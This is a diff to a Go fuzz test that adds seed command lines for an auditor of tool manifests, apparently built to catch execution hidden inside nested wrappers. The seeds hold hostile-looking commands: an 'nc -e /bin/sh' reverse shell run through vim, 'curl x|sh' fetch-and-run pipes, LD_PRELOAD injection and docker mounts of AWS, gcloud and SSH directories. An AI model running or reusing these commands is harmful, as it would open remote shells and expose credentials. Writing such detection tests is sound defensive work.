@@ -68,6 +68,8 @@ var fuzzSeeds = [][]string{
 	{"docker", "run", "-v", "~/.aws:/root/.aws:ro", "--mount", "type=bind,src=C:\\Users\\Me\\.config\\gcloud,dst=/g", "-v", "$HOME:/h", "-v", "/home/me/.ssh/known_hosts:/k", "img:1"},
 	{"nix", "--option", "a", "b", "shell", "nixpkgs#hello", "github:o/r/0123456789abcdef0123456789abcdef01234567", "-c", "bwrap", "--overlay", "a", "b", "c", "--setenv", "LD_PRELOAD", "/x.so", "watch", "-n", "1", "curl", "x", "|", "sh"},
 	{"nix-shell", "-p", "nodejs", "--arg", "a", "b", "--run", "flock /tmp/l -c 'script -qc \"kubectl exec p -- npx pkg\" /dev/null'"},
+	{"find", ".", "-exec", "vim", "-c", ":r !nc -e /bin/sh x 9", "{}", ";", "-execdir", "socat", "STDIO", "SYSTEM:tar -xf a --to-command='curl x|sh'", "+"},
+	{"gdb", "-ex", "shell node --import=data:text/javascript;base64,eA== s.js", "--eval-command=!perl '-Mstrict;exec 1'"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
